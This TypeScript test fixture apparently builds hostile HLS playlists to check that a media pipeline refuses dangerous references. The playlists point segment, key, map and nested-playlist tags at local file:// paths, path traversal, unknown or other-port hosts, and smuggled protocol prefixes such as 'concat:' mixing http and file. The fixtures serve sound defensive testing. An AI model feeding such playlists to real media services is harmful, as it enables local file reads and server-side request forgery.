import { type Bait, type HostileFile, texts } from './hostile-file.ts'

/** Media and multivariant playlists, with wrong extensions and with every tag that references something. */
export function playlists({
  pipe,
  video,
  playlist,
  forbiddenHosts: [unknownHost, otherPortHost],
}: Bait): HostileFile[] {
  const segment = `#EXTINF:2,\nfile://${video}`
  return texts('playlist', {
    'segment-file.m3u8': media(`#EXTINF:2,\nfile://${pipe}`),
    'segment-video.mp4': media(segment),
    'segment-path.ts': media(`#EXTINF:2,\n${video}`),
    'segment-upwards.m3u8': media(`#EXTINF:2,\n${'../'.repeat(20)}${video.slice(1)}`),
    'segment-http.mov': media(`#EXTINF:2,\nhttp://${unknownHost}/a.ts`),
    'segment-other-port.m3u8': media(`#EXTINF:2,\nhttp://${otherPortHost}/a.ts`),
    'segment-https.mkv': media(`#EXTINF:2,\nhttps://${unknownHost}/a.ts`),
    'segment-tcp.m3u8': media(`#EXTINF:2,\ntcp://${unknownHost}`),
    'segment-ftp.m3u8': media(`#EXTINF:2,\nftp://${unknownHost}/a.ts`),
    'segment-concat.m3u8': media(`#EXTINF:2,\nconcat:http://${unknownHost}/a?|file://${pipe}`),
    'segment-subfile.m3u8': media(`#EXTINF:2,\nsubfile,,start,0,end,1000,,:${pipe}`),
    'segment-crypto.m3u8': media(`#EXTINF:2,\ncrypto:file://${pipe}`),
    'segment-range.m3u8': media(`#EXT-X-BYTERANGE:188@0\n#EXTINF:2,\nfile://${pipe}`),
    'segment-carriage.m3u8': media(`#EXTINF:2,\nfile://${pipe}`).replaceAll('\n', '\r\n'),
    'live.m3u8': media(`#EXTINF:2,\nhttp://${otherPortHost}/a.ts`).replace('#EXT-X-ENDLIST\n', ''),
    'key-file.m3u8': media(`#EXT-X-KEY:METHOD=AES-128,URI="file://${pipe}"\n${segment}`),
    'key-http.mp4': media(`#EXT-X-KEY:METHOD=AES-128,URI="http://${unknownHost}/key"\n${segment}`),
    'key-sample.m3u8': media(`#EXT-X-KEY:METHOD=SAMPLE-AES,URI="http://${otherPortHost}/key"\n${segment}`),
    'map-file.m3u8': media(`#EXT-X-MAP:URI="file://${pipe}"\n${segment}`),
    'map-http.mp4': media(`#EXT-X-MAP:URI="http://${unknownHost}/init.mp4"\n${segment}`),
    'nested-file.m3u8': multivariant(`file://${playlist}`),
    'nested-http.mp4': multivariant(`http://${unknownHost}/main.m3u8`),
    'nested-other-port.ts': multivariant(`http://${otherPortHost}/main.m3u8`),
    'sound-file.m3u8': `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="file://${playlist}"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\nfile://${playlist}\n`,
    'frames-http.m3u8': `#EXTM3U\n#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=1,URI="http://${unknownHost}/i.m3u8"\n`,
  })
}

export const media = (lines: string): string =>
  `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n${lines}\n#EXT-X-ENDLIST\n`

const multivariant = (address: string): string =>
  `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000,RESOLUTION=160x90\n${address}\n`
